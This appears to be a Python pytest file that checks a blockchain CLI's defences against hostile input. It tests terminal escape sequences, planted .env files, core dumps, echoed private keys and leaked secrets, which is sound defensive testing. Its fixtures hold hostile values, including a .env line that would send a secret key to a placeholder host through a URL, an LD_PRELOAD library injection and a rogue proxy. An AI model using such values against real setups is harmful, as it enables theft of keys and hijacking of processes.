"""What hostile texts, files and answers cannot make the commands do."""

from __future__ import annotations

import contextlib
import logging
import os
import pty
import resource
import sys
from pathlib import Path

import pytest
from cyclopts import App

from mesh.chain.checks import require_some
from mesh.chain.dialect import Call
from mesh.chain.session import RpcRefused
from mesh.chain.substrate import Preview
from mesh.cli.acting import Step, _forget_typed, _Shown, one_line
from mesh.cli.common import load_dotenv, run_app
from mesh.cli.overwatch import _Commitment, _Committed, _made
from mesh.cli.tables import facts, table
from mesh.config import SECRET_VARIABLES
from mesh.errors import CallRefused, ConfigError, KeyFileError
from mesh.identity import AccountKey, parse_address, write_secret
from mesh.log import TextFormatter
from subnets.demo.processes import Fleet

ESCAPES = "\x1b[2J\x1b[1;1H\x9b31m\u202etxet\r\n\x07"
"""Clears the screen, moves the cursor, colours, turns the writing direction, overwrites a line."""


def assert_harmless(text: str) -> None:
    assert text.strip()
    assert all(c.isprintable() or c == "\n" for c in text), text


def test_a_node_cannot_write_over_what_a_person_is_asked_to_agree_to(capsys: pytest.CaptureFixture[str]) -> None:
    """Names of calls, arguments and variants come out of metadata, values out of bytes that it describes."""
    args: dict[str, object] = {
        f"amount{ESCAPES}": ESCAPES,
        "kind": {f"Variant{ESCAPES}": [ESCAPES, {ESCAPES: ESCAPES}]},
    }
    step = Step(f"stake on {ESCAPES}", Call("add_stake", {}))
    _Shown(step, Preview(b"\0\0", f"Network.{ESCAPES}", args), 1).show()
    shown = capsys.readouterr().out
    assert_harmless(shown)
    assert len(shown.splitlines()) == 5  # no name makes lines of its own
    assert_harmless(one_line(args))


def test_tables_errors_and_log_lines_do_not_steer_a_terminal(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    table(("name", "identity"), [(ESCAPES, f"a{ESCAPES}")], empty="none")
    facts({"name": ESCAPES, "peers": [ESCAPES, "b"]})
    said = capsys.readouterr().out
    assert_harmless(said)
    assert len(said.splitlines()) == 5

    monkeypatch.chdir(tmp_path)
    app = App()

    @app.default
    def main() -> None:
        raise RpcRefused("state_call", -1, ESCAPES)

    with pytest.raises(SystemExit) as ended:
        run_app(app, [])
    assert ended.value.code == 1
    error = capsys.readouterr().err
    assert_harmless(error)
    assert len(error.splitlines()) == 1

    record = logging.LogRecord("mesh", logging.WARNING, "", 0, "the node says %s", (f"x\nforged line{ESCAPES}",), None)
    line = TextFormatter("%(levelname)s %(message)s").format(record)
    assert_harmless(line)
    assert len(line.splitlines()) == 1


def test_a_dotenv_that_somebody_left_in_a_folder_sets_no_more_than_it_may(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Such as one in a cloned repository: secrets of the environment must not get into a URL."""
    monkeypatch.setattr(os, "environ", {"MESH_COLDKEY": "0xsecret", "HOME": str(tmp_path)})
    file = tmp_path / ".env"
    file.write_text(
        "MESH_CHAIN_URL=ws://evil.example/${MESH_COLDKEY}\nXDG_DATA_HOME=/tmp/evil\nMESH_PARENT_PID=1\n"
        "LD_PRELOAD=/tmp/evil.so\nhttps_proxy=evil.example\nMESH_COLDKEY=\n"
    )
    file.chmod(0o600)
    load_dotenv(file)
    assert os.environ == {
        "MESH_COLDKEY": "0xsecret",
        "HOME": str(tmp_path),
        "MESH_CHAIN_URL": "ws://evil.example/${MESH_COLDKEY}",
    }


def test_a_dotenv_that_others_may_have_written_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(os, "environ", {})
    file = tmp_path / ".env"
    file.write_text("MESH_CHAIN_URL=ws://evil.example\n")
    file.chmod(0o666)
    with pytest.raises(ConfigError, match="written by others"):
        load_dotenv(file)
    file.chmod(0o644)
    if not os.geteuid():
        os.chown(file, 12345, -1)
    monkeypatch.setattr(os, "geteuid", lambda: 54321)
    with pytest.raises(ConfigError, match="another user's"):
        load_dotenv(file)
    file.write_bytes(b"A=b\n" * 20_000)
    with pytest.raises(ConfigError, match="larger"):
        load_dotenv(file)
    assert not os.environ


def test_an_overwatch_commitment_that_may_not_have_been_sent_is_made_again_as_it_was(tmp_path: Path) -> None:
    """A process killed between writing the salts down and sending them must not cost the epoch, nor commit twice."""
    path = tmp_path / "epoch-7-node-1.json"
    assert _made(path, 7, {128001: 5}) is None
    kept = _Commitment(weights=(_Committed(subnet_id=128001, weight=5, salt="ab" * 32),))
    write_secret(path, kept.model_dump_json().encode())
    assert _made(path, 7, {128001: 5}) == kept
    for other in ({128001: 6}, {128001: 5, 128002: 1}, {}):
        with pytest.raises(CallRefused, match="other weights"):
            _made(path, 7, other)


def test_a_command_that_holds_keys_leaves_no_core_file(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.chdir(tmp_path)
    before = resource.getrlimit(resource.RLIMIT_CORE)
    seen: list[int] = []
    app = App()

    @app.default
    def main() -> None:
        seen.append(resource.getrlimit(resource.RLIMIT_CORE)[0])

    try:
        resource.setrlimit(resource.RLIMIT_CORE, (before[1], before[1]))
        with contextlib.suppress(SystemExit):
            run_app(app, [])
    finally:
        resource.setrlimit(resource.RLIMIT_CORE, before)
    assert seen == [0]


def test_a_private_key_given_for_an_address_is_not_shown_again() -> None:
    secret = AccountKey.generate().private.hex()
    for text in (secret, f"0x{secret}", " ".join(["abandon"] * 11 + ["about"])):
        with pytest.raises(KeyFileError) as caught:
            parse_address(text)
        assert text not in str(caught.value)
    with pytest.raises(KeyFileError, match="0xab"):
        parse_address("0xab")


def test_what_was_typed_before_the_question_is_no_answer(monkeypatch: pytest.MonkeyPatch) -> None:
    leader, follower = pty.openpty()
    try:
        os.write(leader, b"y\n")
        with os.fdopen(os.dup(follower)) as terminal:
            monkeypatch.setattr(sys, "stdin", terminal)
            _forget_typed()
        os.write(leader, b"n\n")
        assert os.read(follower, 64) == b"n\n"
    finally:
        os.close(leader)
        os.close(follower)


def test_a_demo_does_not_get_the_users_secrets(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in SECRET_VARIABLES:
        monkeypatch.setenv(name, "secret")
    given = Fleet(tmp_path, log_json=False)._environment
    assert {name: given[name] for name in SECRET_VARIABLES} == dict.fromkeys(SECRET_VARIABLES, "")


def test_an_amount_of_nothing_is_refused_before_it_costs_a_fee() -> None:
    with pytest.raises(CallRefused, match="do nothing"):
        require_some(0)
    require_some(1)
